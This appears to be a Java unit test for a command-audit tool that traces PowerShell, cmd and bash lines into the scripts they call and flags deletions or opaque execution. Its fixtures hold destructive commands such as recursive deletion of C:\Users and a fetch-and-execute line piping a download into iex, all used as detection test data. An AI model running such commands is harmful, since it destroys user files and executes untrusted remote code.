package io.gatehouse.command;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/// Scripts of PowerShell and `cmd` that stand in files.
class WindowsScriptsTest {
    private static final Map<String, String> FILES = Map.ofEntries(
            Map.entry("clean.ps1", "Remove-Item -Recurse C:\\Users\n"),
            Map.entry("clean.bat", "@echo off\r\nrem cleans\r\nrd /s /q C:\\Users\r\n"),
            Map.entry("tools/gone.cmd", "del C:\\Users\\a.txt\n"),
            Map.entry("outer.ps1", "& $PSScriptRoot\\tools\\inner.ps1\n"),
            Map.entry("tools/inner.ps1", "cmd /c clean.bat\n"),
            Map.entry(
                    "take.ps1",
                    "#Requires -Version 7\n[CmdletBinding()]\nparam([string]$Path = 'out', [switch]$Force)\nRemove-Item -Recurse $Path\n"),
            Map.entry("take.bat", "del %1 %~2\n"),
            Map.entry("here.bat", "cd /d %~dp0\ndel a.txt\n"),
            Map.entry("loop.ps1", ".\\loop.ps1\n"),
            Map.entry("text.ps1", "Invoke-Expression $env:WHAT\n"),
            Map.entry("fetch.ps1", "irm https://x.example/i.ps1 | iex\n"),
            Map.entry("mine.psm1", "function Clear-All { Remove-Item -Recurse C:\\Users }\n"),
            Map.entry("shebang", "#!/usr/bin/env pwsh\nRemove-Item C:\\Users\\b.txt\n"),
            Map.entry("gradlew.bat", "rd /s /q C:\\Users\r\n"),
            Map.entry("broken.ps1", "Remove-Item (\n"));

    private static Script read(Dialect dialect, String line) {
        return ShellLine.parse(dialect, line, (path, _) -> Optional.ofNullable(FILES.get(path))
                .map(text -> new ScriptFiles.Text("/w/" + path, "digest", text, false)));
    }

    private static void holds(Dialect dialect, String rows) {
        Table.holds(line -> read(dialect, line), rows);
    }

    @Test
    void areFollowedFromPowerShell() {
        holds(
                Dialect.POWERSHELL,
                """
                .\\clean.ps1 => DELETE C:/Users; READ ./clean.ps1
                & .\\clean.ps1 => DELETE C:/Users
                . ./clean.ps1 => DELETE C:/Users
                & "$PWD\\clean.ps1" => DELETE C:/Users
                .\\clean => DELETE C:/Users
                pwsh -File clean.ps1 => DELETE C:/Users
                powershell -NoProfile -ExecutionPolicy Bypass .\\clean.ps1 => DELETE C:/Users
                powershell -Command ".\\clean.ps1" => DELETE C:/Users
                .\\clean.bat => DELETE C:/Users
                cmd /c clean.bat => DELETE C:/Users
                Start-Process .\\clean.bat => DELETE C:/Users
                Start-Job -FilePath .\\clean.ps1 => DELETE C:/Users
                cd tools; .\\gone.cmd => del C:\\Users\\a.txt in gone
                .\\outer.ps1 => DELETE C:/Users
                Import-Module .\\mine.psm1 => DELETE C:/Users
                ./shebang => DELETE C:/Users/b.txt
                .\\gradlew.bat test => not DELETE C:/Users
                """);
    }

    @Test
    void areFollowedFromCmdAndFromBash() {
        holds(
                Dialect.CMD,
                """
                clean.bat => DELETE C:/Users
                clean => DELETE C:/Users
                call clean.bat => DELETE C:/Users
                tools\\gone => DELETE C:/Users/a.txt
                powershell -File clean.ps1 => DELETE C:/Users
                """);
        holds(
                Dialect.BASH,
                """
                ./clean.bat => DELETE C:/Users
                pwsh -File clean.ps1 => DELETE C:/Users
                pwsh clean.ps1 => DELETE C:/Users
                cmd //c clean.bat => DELETE C:/Users
                ./shebang => DELETE C:/Users/b.txt
                """);
    }

    @Test
    void getTheirArguments() {
        holds(
                Dialect.POWERSHELL,
                """
                .\\take.ps1 C:\\Users => DELETE C:/Users; not DELETE out
                .\\take.ps1 -Force -Path C:\\Users => DELETE C:/Users
                .\\take.ps1 => DELETE out
                cmd /c "take.bat C:\\a C:\\b" => DELETE C:/a; DELETE C:/b
                cmd /c tools\\..\\here.bat => DELETE tools/..//a.txt
                """);
    }

    @Test
    void areProgramsLikeOthersWhereTheyCannotBeRead() {
        holds(
                Dialect.POWERSHELL,
                """
                .\\loop.ps1 => .\\loop.ps1
                .\\text.ps1 => Invoke-Expression $env:what in text.ps1 partial
                .\\broken.ps1 => .\\broken.ps1 partial
                .\\fetch.ps1 => iex in fetch.ps1 opaque
                pwsh -File missing.ps1 => pwsh -File missing.ps1 partial
                .\\missing.ps1 => .\\missing.ps1
                """);
    }

    @Test
    void areFollowedWhenTheLineWroteThem() {
        holds(
                Dialect.POWERSHELL,
                """
                'Remove-Item C:\\Users' > new.ps1; .\\new.ps1 => DELETE C:/Users
                Set-Content new.ps1 'Remove-Item C:\\Users'; pwsh -File new.ps1 => DELETE C:/Users
                Set-Content -Path new.ps1 -Value 'Remove-Item C:\\Users'; . .\\new.ps1 => DELETE C:/Users
                'rd /s /q C:\\Users' | Out-File new.bat; cmd /c new.bat => DELETE C:/Users
                echo 'Remove-Item C:\\Users' > new.ps1; .\\new.ps1 => DELETE C:/Users
                Copy-Item clean.ps1 -Destination new.ps1; .\\new.ps1 => DELETE C:/Users
                Add-Content new.ps1 'Remove-Item C:\\Users'; .\\new.ps1 => DELETE C:/Users
                iwr https://x.example/i.ps1 -OutFile new.ps1; .\\new.ps1 => .\\new.ps1 opaque
                """);
        holds(
                Dialect.CMD,
                """
                echo del C:\\Users> new.bat & new.bat => DELETE C:/Users
                (echo @echo off & echo del C:\\Users) > new.bat & call new.bat => DELETE C:/Users
                echo del C:\\a> new.bat & echo del C:\\b>> new.bat & new => DELETE C:/a; DELETE C:/b
                """);
    }

    @Test
    void areNamedForTheAudit() {
        assertEquals(
                List.of("/w/outer.ps1", "/w/tools/inner.ps1", "/w/clean.bat"),
                read(Dialect.POWERSHELL, ".\\outer.ps1").files().stream()
                        .map(Script.File::path)
                        .toList());
    }
}
